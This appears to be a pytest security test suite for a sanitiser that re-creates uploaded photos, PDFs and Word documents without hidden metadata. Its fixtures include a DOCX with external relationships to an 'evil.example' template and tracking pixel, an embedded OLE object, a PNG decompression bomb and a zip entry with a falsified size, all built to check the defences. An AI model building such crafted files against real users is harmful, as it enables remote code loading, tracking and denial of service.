"""Copies without hidden details, made by a child that has nothing to lose."""

import io
import zipfile
from xml.etree import ElementTree as ET

import pytest
from PIL import Image

from answerable.vault import testing
from answerable.vault.actions.files import in_child
from answerable.vault.rules import files
from answerable.vault.terms import FileRefusedError

pytestmark = pytest.mark.security
MARKS = [testing.MARK.encode(), testing.MARK.encode("utf-16-le"), testing.MARK.encode("utf-16-be")]


def holds_mark(content):
    inside = [content]
    if content[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            inside += [archive.read(name) for name in archive.namelist()]
    return any(mark in each for mark in MARKS for each in inside)


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        (files.JPEG, testing.jpeg(mark=testing.MARK)),
        (files.PNG, testing.png(mark=testing.MARK)),
        (files.PDF, testing.pdf(mark=testing.MARK)),
        (files.DOCX, testing.docx(mark=testing.MARK)),
        (files.ODT, testing.odt(mark=testing.MARK)),
        (files.DOCX, testing.docx(**{"word/document.xml": testing.hidden_word(testing.MARK)})),
        (files.DOCX, testing.docx(**{"word/a.xml": f'<a xmlns:w="x" w:author="{testing.MARK}"/>'.encode("utf-16")})),
    ],
    ids=lambda value: getattr(value, "ending", ""),
)
def test_s30_a_copy_holds_no_hidden_details(kind, content):
    assert holds_mark(content)
    copy, media, _ = in_child(content, kind)
    assert (holds_mark(copy), files.admit(f"copy.{files.KINDS[media].ending}", copy).media) == (False, media)


def test_a_copy_of_a_photo_stands_upright_and_has_a_thumbnail():
    copy, media, thumb = in_child(testing.jpeg(size=(400, 200), mark="x"), files.JPEG)
    assert (media, Image.open(io.BytesIO(copy)).size) == ("image/jpeg", (200, 400))
    assert Image.open(io.BytesIO(thumb)).size == (160, 320)


def test_a_copy_of_a_drawing_keeps_what_is_clear():
    copy, media, _ = in_child(testing.png(), files.PNG)
    assert (media, Image.open(io.BytesIO(copy)).mode) == ("image/png", "RGBA")


def test_a_copy_of_a_document_keeps_its_words_and_its_tables_agree():
    copy, _, _ = in_child(testing.docx(mark=testing.MARK), files.DOCX)
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        names = set(archive.namelist())
        assert names == {"[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/media/image1.jpeg"}
        assert (b"hello" in archive.read("word/document.xml"), b"core.xml" in archive.read("_rels/.rels")) == (
            True,
            False,
        )


def test_s30_a_copy_of_a_document_calls_no_server_when_it_is_opened():
    relations = b"""<?xml version="1.0"?><Relationships>
<Relationship Id="1" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>
<Relationship Id="2" Type="x/image" Target="http://evil.example/pixel.png" TargetMode="External"/>
<Relationship Id="3" Type="x/hyperlink" Target="http://good.example/" TargetMode="External"/>
<Relationship Id="4" Type="x/oleObject" Target="embeddings/oleObject1.bin"/>
<Relationship Id="5" Type="x/comments" Target="comments.xml"/>
<Relationship Id="6" Type="x/styles" Target="styles.xml"/></Relationships>"""
    parts = {
        "word/_rels/document.xml.rels": relations,
        "word/comments.xml": b"<a/>",
        "word/embeddings/oleObject1.bin": b"x",
    }
    copy, _, _ = in_child(testing.docx(**parts), files.DOCX)
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        ET.fromstring(archive.read("word/document.xml"))
        kept = ET.fromstring(archive.read("word/_rels/document.xml.rels"))
    assert {each.get("Id"): each.get("Target") for each in kept} == {
        "1": "about:blank", "2": "about:blank", "3": "http://good.example/", "4": "about:blank", "6": "styles.xml",
    }  # fmt: skip


def test_plain_text_of_an_old_encoding_is_copied_as_utf_8():
    assert in_child("Добрий день".encode("cp1251"), files.TEXT) == ("Добрий день".encode(), "text/plain", b"")


@pytest.mark.parametrize("content", [testing.jpeg()[:300], b"\xff\xd8\xff" + bytes(500), testing.jpeg()[:-20]])
def test_a_truncated_photo_gives_no_copy_and_harms_nothing(content):
    assert in_child(content, files.JPEG) is None


def test_s29_a_bomb_that_got_in_is_stopped_in_the_child():
    found = in_child(testing.png_bomb(), files.PNG)
    assert isinstance(found, FileRefusedError)


def test_s29_a_large_photo_fits_into_the_limits():
    copy, _, _ = in_child(testing.png(size=(6300, 6300), mode="RGB"), files.PNG)
    assert Image.open(io.BytesIO(copy)).size == (4096, 4096)


def test_s29_a_document_that_lies_about_its_size_is_stopped_in_the_child():
    honest = testing.docx(**{"word/big.xml": bytes(600_000_000)})
    lying = honest.replace((600_000_000).to_bytes(4, "little"), (600).to_bytes(4, "little"))
    assert not isinstance(in_child(lying, files.DOCX), tuple)


def test_a_locked_pdf_is_refused():
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(testing.pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    assert in_child(out.getvalue(), files.PDF).reason == "locked"
